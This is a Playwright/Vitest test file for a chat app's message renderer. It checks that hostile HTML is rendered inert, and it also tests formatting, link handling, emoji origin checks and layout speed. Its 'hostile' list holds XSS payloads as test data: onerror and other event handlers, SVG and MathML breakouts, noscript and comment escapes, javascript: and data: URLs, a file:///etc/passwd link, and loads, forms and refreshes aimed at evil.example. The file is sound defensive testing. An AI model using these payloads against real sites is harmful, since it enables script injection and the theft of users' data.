import type { Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { formatClock } from '#contract/words/time.ts';
import { openMessagePage, type MessagePage } from './message-page.ts';

let opened: MessagePage;
let page: Page;
let requests: string[];
let dialogs: number;

beforeAll(async () => {
  opened = await openMessagePage();
  ({ page, requests } = opened);
  page.on('dialog', (dialog) => {
    dialogs += 1;
    void dialog.dismiss();
  });
});
afterAll(() => opened.close());
beforeEach(() => {
  requests.length = 0;
  dialogs = 0;
});

const show = (html: string) => opened.show(html);

/** What in the displayed message could load, run, send or restyle something. */
async function dangers(): Promise<string[]> {
  return page.locator('#root').evaluate((root) => {
    const found: string[] = [];
    const harmless = new Set([
      'class',
      'dir',
      'title',
      'type',
      'role',
      'aria-label',
      'aria-hidden',
      'tabindex',
    ]);
    for (const attribute of ['datetime', 'colspan', 'rowspan', 'start', 'open']) harmless.add(attribute);
    const own = (element: Element) => element.closest('svg.tabler-icon, style[data-mantine-styles]') !== null;
    for (const element of root.querySelectorAll('*')) {
      if (own(element)) continue;
      if (
        element.matches(
          'script, style, link, meta, iframe, object, embed, form, input, img, video, audio, svg, math',
        )
      )
        found.push(element.localName);
      for (const { name } of element.attributes)
        if (!harmless.has(name)) found.push(`${element.localName} ${name}`);
    }
    return found;
  });
}

/** Each tries to run something (`window.ran`), to load from `evil.example`, or to change its surroundings. */
const hostile: [string, string][] = [
  ['a script', '<p>hi</p><script>window.ran = 1</script>'],
  ['a script that loads', '<script src="https://evil.example/a.js"></script>'],
  ['an error handler', '<img src="x" onerror="window.ran = 1">'],
  [
    'handlers of every kind',
    '<p onclick="window.ran=1" onmouseover="window.ran=1" onanimationstart="window.ran=1" style="animation:x 1s">a</p>',
  ],
  ['SVG with a handler', '<svg onload="window.ran=1"><circle r="9"/></svg>'],
  ['SVG with a script', '<svg><script>window.ran=1</script></svg>'],
  ['SVG that uses another', '<svg><use href="https://evil.example/a.svg#x"/></svg>'],
  ['SVG with foreign content', '<svg><foreignObject><img src=x onerror=window.ran=1></foreignObject></svg>'],
  [
    'MathML that breaks out',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.ran=1&gt;">',
  ],
  ['a comment that breaks out', '<p><!--><img src=x onerror=window.ran=1>--></p>'],
  [
    'noscript that breaks out',
    '<noscript><p title="</noscript><img src=x onerror=window.ran=1>"></noscript>',
  ],
  ['a template', '<template><img src=x onerror=window.ran=1></template>'],
  [
    'a declarative shadow root',
    '<div><template shadowrootmode="open"><img src="https://evil.example/a.png"></template></div>',
  ],
  ['a style element', '<style>* { background: url(https://evil.example/a.png) }</style>'],
  [
    'a style attribute',
    '<div style="background:url(https://evil.example/a.png);position:fixed;inset:0">cover</div>',
  ],
  ['a style sheet', '<link rel="stylesheet" href="https://evil.example/a.css">'],
  ['a remote picture', '<img src="https://evil.example/a.png" srcset="https://evil.example/b.png 2x">'],
  [
    'a picture with a lazy set',
    '<picture><source srcset="https://evil.example/a.png"><img src="https://evil.example/b.png"></picture>',
  ],
  [
    'a video and a sound',
    '<video src="https://evil.example/a.mp4" poster="https://evil.example/p.png" autoplay></video><audio src="https://evil.example/a.mp3" autoplay></audio>',
  ],
  [
    'a track',
    '<video><track src="https://evil.example/a.vtt" default><source src="https://evil.example/a.mp4"></video>',
  ],
  [
    'a frame',
    '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
  ],
  ['an object', '<object data="https://evil.example/a"></object><embed src="https://evil.example/a">'],
  [
    'a form',
    '<form action="https://evil.example/"><input name="key" autofocus onfocus="window.ran=1"><button>Sign in</button></form>',
  ],
  ['a base', '<base href="https://evil.example/"><img src="a.png">'],
  ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  [
    'a preload',
    '<link rel="prefetch" href="https://evil.example/"><link rel="dns-prefetch" href="//evil.example">',
  ],
  ['a javascript address', '<a href="javascript:window.ran=1">press</a>'],
  ['a javascript address in disguise', '<a href="  jav&#x09;ascript:window.ran=1">press</a>'],
  [
    'a data address',
    '<a href="data:text/html,<script>window.ran=1</script>">press</a><img src="data:image/svg+xml,<svg onload=window.ran=1>">',
  ],
  [
    'a file and a blob address',
    '<a href="file:///etc/passwd">press</a><a href="blob:https://console.invalid/1">press</a>',
  ],
  ['an address of the app itself', '<a href="app://console/">press</a><a href="realm-console://x">press</a>'],
  ['ping', '<a href="https://good.example/" ping="https://evil.example/">x</a>'],
  [
    'names that stand for properties',
    '<p id="root" name="show">x</p><a id="call" name="realmConsole" href="https://a.example">x</a>',
  ],
  ['classes of the window', '<div class="mantine-Modal-content rc-selectable">x</div>'],
  [
    'an editable part',
    '<p contenteditable="true" draggable="true" autofocus tabindex="1" accesskey="x">x</p>',
  ],
  ['a custom element', '<x-evil onclick="window.ran=1"><slot></slot></x-evil>'],
  ['a dialog', '<dialog open><p>x</p></dialog><details open ontoggle="window.ran=1">x</details>'],
  ['a marquee', '<marquee onstart="window.ran=1">x</marquee>'],
];

describe('a hostile message', () => {
  it.each(hostile)('with %s is inert', async (_, html) => {
    await show(html);
    for (const link of await page.locator('#root [role=link]').all()) await link.click();
    expect(await dangers()).toEqual([]);
    expect(await page.evaluate(() => 'ran' in window)).toBe(false);
    const followed = await page.evaluate(() => window.opened.splice(0));
    expect(followed.filter((url) => !/^(?:https?|mailto):/.test(url))).toEqual([]);
    expect(requests).toEqual([]);
    expect(dialogs).toBe(0);
    expect(page.url()).toBe(`${opened.origin}/`);
  });

  it('that is ten thousand elements deep is shown as text', async () => {
    await show(`${'<blockquote>'.repeat(10_000)}deep${'</blockquote>'.repeat(10_000)}`);
    expect(await page.locator('#root').textContent()).toContain('deep');
  });
});

describe('message content', () => {
  it('keeps its emphasis, lists, tables and code', async () => {
    await show(
      '<p><strong>From</strong> <em>Monday</em></p><ul>\n<li>one</li>\n</ul><table><thead><tr><th>Studio</th></tr></thead><tbody><tr><td>A</td></tr></tbody></table><div class="codehilite"><pre><span></span><code>let x = 1\n</code></pre></div>',
    );
    for (const part of ['strong', 'em', 'ul > li', 'table th', 'table td', 'pre > code']) {
      expect(await page.locator(`#root ${part}`).count(), part).toBe(1);
    }
  });

  it('opens links outside, the organization’s by their full address', async () => {
    await show(
      '<p><a href="https://a.example/x">one</a> <a class="stream" href="/#narrow/channel/7-general">#general</a></p><div class="message_inline_image"><a href="/user_uploads/2/ab/Kiln%20plan.png" title="Kiln plan.png"><img src="/user_uploads/thumbnail/2/ab/Kiln%20plan.png/840x560.webp"></a></div>',
    );
    for (const link of await page.locator('#root [role=link]').all()) await link.click();
    expect(await page.evaluate(() => window.opened.splice(0))).toEqual([
      'https://a.example/x',
      'https://chat.orchid.example/#narrow/channel/7-general',
      'https://chat.orchid.example/user_uploads/2/ab/Kiln%20plan.png',
    ]);
    expect(requests).toEqual([]);
  });

  it('shows custom emoji with main’s pictures, and those from elsewhere as names', async () => {
    const emoji = (name: string, src: string) =>
      `<img alt=":${name}:" class="emoji" src="${src}" title="${name}">`;
    const folder = '/user_avatars/2/emoji/images';
    await show(
      `<p>${[
        emoji('kiln', `${folder}/1.png`),
        emoji('fair', `https://chat.orchid.example${folder}/2.png`),
        emoji('zulip', '/static/generated/emoji/images/emoji/unicode/zulip.png'),
        emoji('elsewhere', `https://evil.example${folder}/1.png`),
        emoji('without_scheme', `//evil.example${folder}/1.png`),
        emoji('longer_host', `https://chat.orchid.example.evil.example${folder}/1.png`),
        emoji('user', `https://chat.orchid.example@evil.example${folder}/1.png`),
        emoji('other', '/user_avatars/2/8.png'),
        emoji('climbing', `${folder}/../../../../user_uploads/1/ab/track.png`),
        emoji('query', `${folder}/1.png?to=evil`),
        emoji('nowhere', ''),
      ].join(' ')}</p>`,
    );
    const drawn = page.locator('#root [role="img"]:has(img)');
    await expect.poll(() => drawn.count()).toBe(3);
    expect(await drawn.evaluateAll((all) => all.map((each) => each.getAttribute('title')))).toEqual([
      ':kiln:',
      ':fair:',
      ':zulip:',
    ]);
    expect(await page.locator('#root [dir="auto"]').textContent()).toMatch(
      /^\s*:elsewhere: :without_scheme: :longer_host: :user: :other: :climbing: :query: :nowhere:$/u,
    );
    expect(await page.evaluate(() => window.emoji)).toEqual(['1', '2', 'zulip']);
    expect(requests).toEqual([]);
  });

  it('shows emoji as characters, external pictures as names, times in the local zone, and formulas as TeX', async () => {
    await show(
      '<p><span aria-label="fire" class="emoji emoji-1f525" role="img" title="fire">:fire:</span> <img alt=":kiln:" class="emoji" src="/user_avatars/2/emoji/images/9.png" title="kiln"> <time datetime="2026-11-23T08:30:00Z">2026-11-23T08:30:00Z</time> <span class="katex"><span class="katex-mathml"><math><semantics><mrow><mi>x</mi></mrow><annotation encoding="application/x-tex">x^2</annotation></semantics></math></span><span class="katex-html" aria-hidden="true">x2</span></span></p>',
    );
    const text = await page.locator('#root').textContent();
    expect(text).toContain('🔥');
    expect(text).toContain(':kiln:');
    const clock = formatClock(Date.UTC(2026, 10, 23, 8, 30));
    expect(text).toMatch(new RegExp(`Mon 23 Nov( 2026)?, ${clock}`));
    expect(await page.locator('#root code').textContent()).toBe('x^2');
  });

  it('hides a spoiler until it is opened by keyboard', async () => {
    await show(
      '<div class="spoiler-block"><div class="spoiler-header">\n<p>The end</p></div><div class="spoiler-content" aria-hidden="true">\n<p>It was the kiln.</p></div></div>',
    );
    const hidden = page.getByText('It was the kiln.');
    expect(await hidden.isVisible()).toBe(false);
    await page.locator('#root summary').focus();
    await page.keyboard.press('Enter');
    expect(await hidden.isVisible()).toBe(true);
  });
});

describe('a message of 10,000 characters', () => {
  const fill = (piece: string): string => piece.repeat(Math.ceil(10_000 / piece.length)).slice(0, 10_000);

  /** CPU milliseconds of the window, independent of other load, until it is laid out in a column. */
  async function layoutTime(text: string): Promise<number> {
    const devTools = await page.context().newCDPSession(page);
    await devTools.send('Performance.enable', { timeDomain: 'threadTicks' });
    const timeSpent = async (): Promise<number> => {
      const { metrics } = await devTools.send('Performance.getMetrics');
      return (metrics.find(({ name }) => name === 'TaskDuration')?.value ?? Number.NaN) * 1000;
    };
    const times: number[] = [];
    for (const again of ['1', '2', '3']) {
      await show('');
      await page.evaluate(() => document.fonts.load('13px "Inter Variable"'));
      const before = await timeSpent();
      await page.evaluate(async (html) => {
        const root = document.querySelector<HTMLElement>('#root');
        if (root) root.style.cssText = 'width: 600px; font: 13px/20px "Inter Variable", sans-serif';
        await window.show(html);
        root?.getBoundingClientRect();
      }, `<p>${again} ${text}</p>`);
      times.push((await timeSpent()) - before);
    }
    await devTools.detach();
    return Math.min(...times);
  }

  it.each([
    ['of one word', fill('W')],
    ['of one word without spaces in a script that joins its letters', fill('\u0915\u094d\u0937\u093f')],
    ['in a table', `<table><tr><td>${fill('\u0e2a\u0e27\u0e31\u0e2a\u0e14\u0e35')}</td></tr></table>`],
    ['of marks on one letter', `a${fill('\u0301\u0302\u0303\u0304\u0305')}`],
    ['of many letters with many marks', fill(`a${'\u0301\u0302\u0303'.repeat(10)}`)],
    ['of controls of direction', fill('\u202ea\u202db')],
  ])('of %s is laid out almost as fast as words', async (_name, text) => {
    const ofWords = await layoutTime(fill('lorem ipsum dolor sit amet '));
    expect((await layoutTime(text)) / Math.max(ofWords, 8)).toBeLessThan(10);
  });
});
